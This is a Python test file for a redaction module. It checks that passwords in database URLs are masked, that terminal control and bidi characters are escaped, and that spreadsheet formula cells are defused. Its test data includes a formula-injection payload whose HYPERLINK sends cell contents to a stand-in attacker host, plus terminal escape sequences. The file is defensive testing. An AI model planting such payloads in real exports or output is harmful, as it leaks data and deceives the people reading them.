"""Values made safe to show: passwords hidden, terminals unbroken, spreadsheets not executed."""

from __future__ import annotations

import json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rekisteri.redact import HIDDEN, hide_secrets, printable, printable_json, spreadsheet_cell

# --- passwords in connection URLs ---------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "postgresql://u:p@ss@127.0.0.1:1/x?password=secret",
            "postgresql://u:***@127.0.0.1:1/x?password=***",
        ),
        ("postgresql://u:pa/ss@db.example/crm", "postgresql://u:***@db.example/crm"),
        ("postgresql://u:pa?ss#x@db.example:5432/crm", "postgresql://u:***@db.example:5432/crm"),
        ("postgresql://:s3cret@/crm?host=/run/pg", "postgresql://:***@/crm?host=/run/pg"),
        ("mysql+pymysql://ann:x@[::1]:3306/crm", "mysql+pymysql://ann:***@[::1]:3306/crm"),
        (
            "store 'postgresql://u:pw@h/x' (REKISTERI_STORE_URL): cannot connect",
            "store 'postgresql://u:***@h/x' (REKISTERI_STORE_URL): cannot connect",
        ),
        ("(postgresql://u:pw@h)", "(postgresql://u:***@h)"),
        ("postgresql://u:p@ss@[bad/x", "postgresql://u:***@[bad/x"),  # no host: the last '@'
        ("a\npostgresql://u:pw@h/x\nb", "a\npostgresql://u:***@h/x\nb"),
        (
            "postgresql://u@h/x?sslmode=require&sslpassword=k;pwd=p&PassWord=q",
            "postgresql://u@h/x?sslmode=require&sslpassword=***;pwd=***&PassWord=***",
        ),
    ],
)
def test_passwords_are_hidden(text: str, expected: str) -> None:
    assert hide_secrets(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "postgresql://u@db.example/crm",
        "postgresql://db.example:5432/crm",
        "sqlite:////home/terhi/asiakkaat@2024/store.sqlite",
        "/home/terhi/asiakkaat.sqlite",
        "mailto:tietosuoja@example.fi",
        "register.toml:12:5: purposes[1].legal_basis: 'contrct' is not one of …",
    ],
)
def test_text_without_a_password_is_unchanged(text: str) -> None:
    assert hide_secrets(text) == text


PASSWORD = st.text(st.characters(blacklist_categories=("Cs", "Zs", "Zl", "Zp", "Cc")), min_size=1)


@given(PASSWORD, st.sampled_from(["db.example", "127.0.0.1", "", "[::1]"]), st.booleans())
def test_no_password_survives(password: str, host: str, port: bool) -> None:
    # Unescaped '@', '/', '?', '#' or ':' in the password: the last '@' before a host ends it.
    where = host + (":5432" if port else "")
    shown = hide_secrets(f"store postgresql://ann:{password}@{where}/crm: cannot connect")
    assert shown == f"store postgresql://ann:{HIDDEN}@{where}/crm: cannot connect"


@given(PASSWORD.filter(lambda p: not set(p) & set("&;#")))
def test_no_password_parameter_survives(password: str) -> None:
    shown = hide_secrets(f"postgresql://ann@db/crm?sslmode=require&password={password}")
    assert shown == f"postgresql://ann@db/crm?sslmode=require&password={HIDDEN}"


# --- control characters -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Aino Virtanen", "Aino Virtanen"),
        ("Äijälä Ööpiä Šárka", "Äijälä Ööpiä Šárka"),
        ("\x1b[2J", "\\x1b[2J"),
        ("a\x07b\x7fc\x9bd", "a\\x07b\\x7fc\\x9bd"),
        ("tab\there\r\n", "tab\\there\\r\\n"),
        ("\u202eevil", "\\u202eevil"),  # a bidi override would reorder what the reader sees
        ("perhe\u200d👩", "perhe\u200d👩"),  # a joiner inside an emoji is text
    ],
)
def test_control_characters_are_shown_not_obeyed(text: str, expected: str) -> None:
    assert printable(text) == expected


def test_a_message_keeps_its_own_lines() -> None:
    assert printable("one\ntwo\x1b[31m", keep_newlines=True) == "one\ntwo\\x1b[31m"
    assert printable("one\r\ntwo", keep_newlines=True) == "one\\r\ntwo"


@given(st.text())
def test_no_control_character_is_left_to_interpret(text: str) -> None:
    # Controls (C0, DEL, C1), format characters such as bidi overrides, line and paragraph
    # separators; unassigned code points are not interpreted by a terminal.
    shown = printable(text, keep_newlines=True)
    kinds = {unicodedata.category(char) for char in shown.replace("\n", "").replace("\u200d", "")}
    assert not kinds & {"Cc", "Cf", "Zl", "Zp"}
    assert printable(shown, keep_newlines=True) == shown  # escaping twice changes nothing more


@given(st.recursive(st.text() | st.integers(), lambda inner: st.lists(inner, max_size=3)))
def test_json_keeps_its_value_and_loses_its_controls(value: object) -> None:
    text = printable_json(json.dumps({"value": value}, ensure_ascii=False, indent=2))
    assert json.loads(text) == {"value": value}
    kinds = {unicodedata.category(char) for char in text.replace("\n", "").replace("\u200d", "")}
    assert not kinds & {"Cc", "Cf", "Zl", "Zp"}


def test_json_escapes_what_json_dumps_leaves() -> None:
    raw = json.dumps(["\x1b[2J", "\x9b", "\u202e", "\U000e0001", "äö"], ensure_ascii=False)
    assert printable_json(raw) == '["\\u001b[2J", "\\u009b", "\\u202e", "\\udb40\\udc01", "äö"]'


# --- spreadsheet formulas -----------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_is_made_text(start: str) -> None:
    cell = start + 'HYPERLINK("http://evil.example/?"&A1,"x")'
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["+1+HYPERLINK(1)", "-1-1", "+358 40\n=1", "-2\t", "+ 1"])
def test_a_number_with_more_after_it_is_still_a_formula(cell: str) -> None:
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "text",
    ["", "Aino", "045 127 3344", "2023-04-06", " =x", "a=b", "'=x", "+358407712290", "-5,50"],
)
def test_other_text_is_unchanged(text: str) -> None:
    assert spreadsheet_cell(text) == text
